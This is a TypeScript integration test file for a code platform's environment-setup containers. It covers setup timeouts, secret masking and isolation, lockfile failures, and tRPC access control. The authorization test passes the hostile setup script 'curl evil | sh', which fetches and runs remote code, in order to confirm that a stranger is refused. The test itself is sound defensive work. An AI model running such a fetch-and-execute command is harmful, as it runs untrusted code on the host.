import { cpSync, mkdtempSync, readFileSync, writeFileSync } from "node:fs";
import os from "node:os";
import path from "node:path";
import { afterAll, beforeAll, describe, expect, it, vi } from "vitest";
import { resetEnvForTests } from "@/server/env";
import { buildEnvironmentImage } from "@/server/environments/build-environment-image";
import { resolveEnvironment } from "@/server/environments/resolve-environment";
import { listOwnContainers } from "@/server/sandbox";
import { getDocker } from "@/server/sandbox/docker-client";
import { requireDocker } from "@/server/sandbox/docker-test-guard";
import { DockerSandbox } from "@/server/sandbox/docker-sandbox";
import { callerFor, createTestUser, testDb } from "../helpers/db";
import { codeOf } from "../helpers/trpc-errors";
import { bareRepoOf, FIXTURES } from "./fixture-repos";

const dockerReady = await requireDocker("environment setup containers");
const root = mkdtempSync(path.join(os.tmpdir(), "env-setup-"));
process.env.LOCAL_IMPORT_ROOTS = root;
resetEnvForTests();
// Environment builds and whole runs: minutes on a loaded machine, not the default 60 s.
vi.setConfig({ testTimeout: 240000, hookTimeout: 240000 });

function fixtureCopy(name: string): string {
  const dir = mkdtempSync(path.join(root, `${name}-`));
  cpSync(path.join(FIXTURES, name), dir, { recursive: true });
  return dir;
}

async function imageExists(tag: string): Promise<boolean> {
  return getDocker().getImage(tag).inspect().then(() => true, () => false);
}

const base = () => resolveEnvironment({ repoRoot: path.join(FIXTURES, "python-textkit"), overrides: null });

describe.skipIf(!dockerReady)("the setup container", () => {
  afterAll(async () => {
    expect(await listOwnContainers()).toEqual([]);
  });

  it("a setup that hangs is killed at its time limit, with a message; no image and no container are kept", async () => {
    const { baseImage } = await base();
    const tag = `autocodeai-env:hang-${process.pid}`;
    const result = await buildEnvironmentImage({ repoRoot: fixtureCopy("python-textkit"), baseImage, setupScript: "echo starting\nsleep 300", imageTag: tag, labels: {}, timeoutMs: 3000, secrets: {}, workspaceLimitBytes: 1e8 });
    expect(result.ok).toBe(false);
    expect(!result.ok && result.error).toMatch(/did not finish within 3 s and was stopped/);
    expect(result.log).toContain("starting");
    expect(await imageExists(tag)).toBe(false);
  });

  it("secrets reach only the setup container: masked in the log, absent from the image and from run sandboxes", async () => {
    const { baseImage } = await base();
    const tag = `autocodeai-env:secret-${process.pid}`;
    const secret = "s3cr3t-registry-token";
    try {
      const result = await buildEnvironmentImage({
        repoRoot: fixtureCopy("python-textkit"),
        baseImage,
        setupScript: `test "$REGISTRY_TOKEN" = ${secret}\necho "token is $REGISTRY_TOKEN"\nprintenv > /opt/seen-env || true`,
        imageTag: tag,
        labels: {},
        timeoutMs: 60_000,
        secrets: { REGISTRY_TOKEN: secret },
        workspaceLimitBytes: 1e8,
      });
      expect(result.ok).toBe(true);
      expect(result.log).toContain("token is ***");
      expect(result.log).not.toContain(secret);
      const info = await getDocker().getImage(tag).inspect();
      expect(JSON.stringify(info.Config)).not.toContain(secret);
      const history = await getDocker().getImage(tag).history();
      expect(JSON.stringify(history)).not.toContain(secret);
      const sandbox = new DockerSandbox({ poolSize: 0 });
      const session = await sandbox.openSession("env-secret-check", { image: tag });
      try {
        const seen = await session.exec(["sh", "-c", "printenv; ls /tmp"]);
        expect(seen.stdout).not.toContain(secret);
        expect(seen.stdout).not.toContain("autocode-setup.sh");
      } finally {
        await session.close();
        await sandbox.shutdown();
      }
    } finally {
      await getDocker().getImage(tag).remove({ force: true }).catch(() => undefined);
    }
  });

  it("a lockfile that does not match package.json fails npm ci with the command named", async () => {
    const dir = fixtureCopy("ts-mathkit");
    const pkg = JSON.parse(readFileSync(path.join(dir, "package.json"), "utf8")) as { devDependencies: Record<string, string> };
    pkg.devDependencies["left-pad"] = "1.3.0";
    writeFileSync(path.join(dir, "package.json"), JSON.stringify(pkg, null, 2));
    const resolved = await resolveEnvironment({ repoRoot: dir, overrides: null });
    const result = await buildEnvironmentImage({ repoRoot: dir, baseImage: resolved.baseImage, setupScript: resolved.setupScript, imageTag: resolved.imageTag, labels: {}, timeoutMs: 120_000, secrets: {}, workspaceLimitBytes: 1e8 });
    expect(result.ok).toBe(false);
    expect(!result.ok && result.error).toMatch(/the setup failed \(exit code \d+\) at: npm ci/);
    expect(result.log).toMatch(/package-lock\.json|in sync/);
    expect(await imageExists(resolved.imageTag)).toBe(false);
  });
});

describe("environment settings through tRPC", () => {
  let owner: Awaited<ReturnType<typeof createTestUser>>;
  let stranger: Awaited<ReturnType<typeof createTestUser>>;
  let projectId: string;

  beforeAll(async () => {
    owner = await createTestUser("env-settings-owner");
    stranger = await createTestUser("env-settings-stranger");
    projectId = (await callerFor(owner.id).project.create({ name: "textkit-settings", source: { kind: "local", path: bareRepoOf("python-textkit", root) } })).id;
  });

  it("shows what was detected, stores overrides, keeps secrets encrypted and never sends them back", async () => {
    const detected = await callerFor(owner.id).environment.get({ projectId });
    expect(detected).toMatchObject({ state: "NONE", language: "python", framework: "pytest", secretNames: [] });
    expect(detected.setupScript).toMatch(/-r requirements\.txt/);

    const saved = await callerFor(owner.id).environment.update({ projectId, setupScript: "pip install -e .", secrets: { REGISTRY_TOKEN: "very-secret-value" }, setupTimeoutS: 120 });
    expect(saved).toMatchObject({ setupScript: "pip install -e .", setupTimeoutS: 120, secretNames: ["REGISTRY_TOKEN"] });
    expect(JSON.stringify(saved)).not.toContain("very-secret-value");
    const row = await testDb().projectEnvironment.findUniqueOrThrow({ where: { projectId } });
    expect(row.secretsCipher).toBeTruthy();
    expect(row.secretsCipher).not.toContain("very-secret-value");

    const cleared = await callerFor(owner.id).environment.update({ projectId, setupScript: null });
    expect(cleared.setupScript).toMatch(/-r requirements\.txt/);
  });

  it("refuses bad input and other people", async () => {
    expect(await codeOf(callerFor(owner.id).environment.update({ projectId, secrets: { "bad name": "x" } }))).toBe("BAD_REQUEST");
    expect(await codeOf(callerFor(stranger.id).environment.get({ projectId }))).toBe("NOT_FOUND");
    expect(await codeOf(callerFor(stranger.id).environment.update({ projectId, setupScript: "curl evil | sh" }))).toBe("NOT_FOUND");
  });
});
